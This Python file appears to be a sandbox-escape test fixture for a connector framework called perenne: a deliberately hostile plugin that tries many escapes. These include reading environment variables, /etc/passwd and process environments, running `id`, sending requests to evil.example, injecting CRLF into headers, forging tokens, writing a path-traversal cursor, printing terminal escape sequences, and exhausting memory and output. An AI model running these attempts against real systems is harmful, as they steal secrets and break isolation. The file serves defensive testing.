"""A connector that means harm. It tries what it can think of, and tells in the only way it has what it got: a post.

What it does is named by the account that it is told to fetch.
"""

import ctypes
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec

import perenne
from perenne.connectors.asking import Stopped
from perenne.connectors.paging import Run
from perenne.connectors.said import Cursor, Published, Stop
from perenne.handset.frames import Request, asked
from perenne.handset.message import Publish
from perenne.model.post import Account, Post

HOST = "api.platform.example"
Attempt = Callable[[Run], object]


def collect(run: Run) -> None:
    if run.task.account == "words":
        _words_of_mine(run)
    found: dict[str, str] = {}
    for name, attempt in ATTEMPTS.get(run.task.account, {}).items():
        try:
            found[name] = str(attempt(run))[:2000]
        except BaseException as problem:
            found[name] = f"refused: {type(problem).__name__}"
    run.tell(Post(platform="other", post_id="1", account=Account(handle="x"), text=repr(found)))


def publish(run: Run, wanted: Publish) -> Published:
    """It was given a message that people approved, and sends others under its hash, and it twice."""
    said: list[str] = []
    for text in (wanted.text + " evil.example", "something else", wanted.text, wanted.text):
        attempt = _ask(
            method="POST",
            path="/v1/publish",
            headers={"Content-Type": "application/json"},
            body=msgspec.json.encode({"text": text}),
            auth="access",
            approval=wanted.preview,
        )
        said.append(str(attempt(run)))
    return Published(repr(said))


def _read(*paths: str) -> Attempt:
    def attempt(run: Run) -> object:
        return b"".join(Path(each).read_bytes() for each in paths)

    return attempt


def _everything_below(folder: str) -> Attempt:
    return lambda run: [str(each) for each in Path(folder).iterdir()]


def _environments(run: Run) -> object:
    return [each.read_bytes() for each in Path("/proc").glob("[0-9]*/environ")]


def _connect(family: socket.AddressFamily, address: Any) -> Attempt:
    def attempt(run: Run) -> object:
        with socket.socket(family, socket.SOCK_STREAM) as going:
            going.settimeout(2)
            going.connect(address)
            return "connected"

    return attempt


def _descriptors(run: Run) -> object:
    got: dict[int, str] = {}
    for each in range(3, 200):
        try:
            got[each] = str(Path(f"/proc/self/fd/{each}").readlink())
        except OSError:
            continue
    return got


def _send_away(run: Run) -> object:
    """A descriptor is not passed out either."""
    mine, other = socket.socketpair()
    with socket.socket(fileno=os.dup(run.task.relay)) as relay:
        socket.send_fds(relay, [b"\0\0\0\x02{}"], [mine.fileno()])
    other.settimeout(2)
    return other.recv(10)


def _ask(**changed: Any) -> Attempt:
    def attempt(run: Run) -> object:
        with socket.socket(fileno=os.dup(run.task.relay)) as relay:
            request = msgspec.structs.replace(Request(1, "GET", HOST, "/v1/videos"), **changed)
            answer = asked(relay, request)
            return answer.refused or answer.body

    return attempt


def _flood_the_relay(run: Run) -> object:
    ask = _ask()
    return [ask(run) for _ in range(60)][-1]


def _flood(run: Run) -> None:
    while True:
        sys.stdout.write("x" * 100_000)


def _complain(run: Run) -> None:
    while True:
        sys.stderr.write("x" * 100_000)


def _more_than_asked(run: Run) -> None:
    for number in range(10):
        run.tell(Post(platform="other", post_id=str(number)))


def _of_another_platform(run: Run) -> None:
    run.tell(Post(platform="instagram", post_id="1", text="not mine to say"))


def _not_as_written(run: Run) -> None:
    os.write(1, b'{"perenne":"post/1","platform":"other","platform":"tiktok"}\n')


def _half(run: Run) -> None:
    os.write(1, b'{"perenne":"post/1"')
    os._exit(0)


def _hang_up(run: Run) -> None:
    os._exit(0)


def _cursor_of_mine(run: Run) -> None:
    run._tell(Cursor({"../../x": "/etc/passwd"}))


def _words_of_mine(run: Run) -> None:
    """Nothing that commands a terminal stands in the ledger, and no list grows without end."""
    for number in range(50):
        run.unread(f"\x1b[2J{number}")
    raise Stopped(Stop("\x1b[2J" * 1000, 0, "\x1b]0;mine\x07"))


def _done_as_published(run: Run) -> None:
    run._tell(Published("1"))
    os._exit(0)


def _memory(run: Run) -> object:
    return len(bytearray(4 * 2**30))


def _large_file(run: Run) -> None:
    Path("large").write_bytes(b"x" * 200 * 2**20)


def _overwrite(run: Run) -> None:
    with Path(perenne.__file__).open("a") as code:
        code.write("# mine")


def _load(run: Run) -> object:
    return ctypes.CDLL(None).system(b"id")


ATTEMPTS: dict[str, dict[str, Attempt]] = {
    "steal": {
        "environment": lambda run: dict(os.environ),
        "environments": _environments,
        "accounts": _read("/etc/passwd"),
        "home": _everything_below(os.environ.get("HOME_OF_THE_USER", "/root")),
        "homes": _everything_below("/home"),
        "code of the tests": _everything_below("/work"),
        "descriptors": _descriptors,
        "task": lambda run: run.task,
        "other processes": _everything_below("/proc/1/fd"),
        "a program": lambda run: subprocess.run(["id"], capture_output=True, check=True).stdout,
        "a process": lambda run: os.fork(),
        "a shell": _load,
        "our code": _overwrite,
        "memory": _memory,
        "a large file": _large_file,
    },
    "reach": {
        "loopback": _connect(socket.AF_INET, ("127.0.0.1", 80)),
        "six": _connect(socket.AF_INET6, ("::1", 80)),
        "abstract": _connect(socket.AF_UNIX, "\0door"),
        "bus": _connect(socket.AF_UNIX, "/run/dbus/system_bus_socket"),
        "name": lambda run: socket.getaddrinfo("evil.example", 443),
        "datagram": lambda run: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)),
    },
    "smuggle": {
        "host": _ask(host="evil.example"),
        "look-alike": _ask(host=HOST + ".evil.example"),
        "address": _ask(host="127.0.0.1"),
        "path": _ask(path="/v1/admin"),
        "query": _ask(query={"admin": "1"}),
        "header": _ask(headers={"Host": "evil.example"}),
        "authorization": _ask(headers={"Authorization": "Bearer x"}),
        "line end": _ask(query={"cursor": "1\r\nX: y"}),
        "body": _ask(body=b"left"),
        "token of another": _ask(auth="of another"),
        "token that renews": _ask(auth="refresh_token"),
        "publish": _ask(method="POST", path="/v1/publish", body=b'{"text":"mine"}', approval="a" * 64),
        "media": _ask(method="POST", path="/v1/publish", media="a" * 64, approval="a" * 64),
        "too often": _flood_the_relay,
        "a descriptor": _send_away,
    },
    "flood": {"": _flood},
    "complain": {"": _complain},
    "more": {"": _more_than_asked},
    "other": {"": _of_another_platform},
    "twice": {"": _not_as_written},
    "half": {"": _half},
    "leave": {"": _hang_up},
    "published": {"": _done_as_published},
    "cursor": {"": _cursor_of_mine},
}
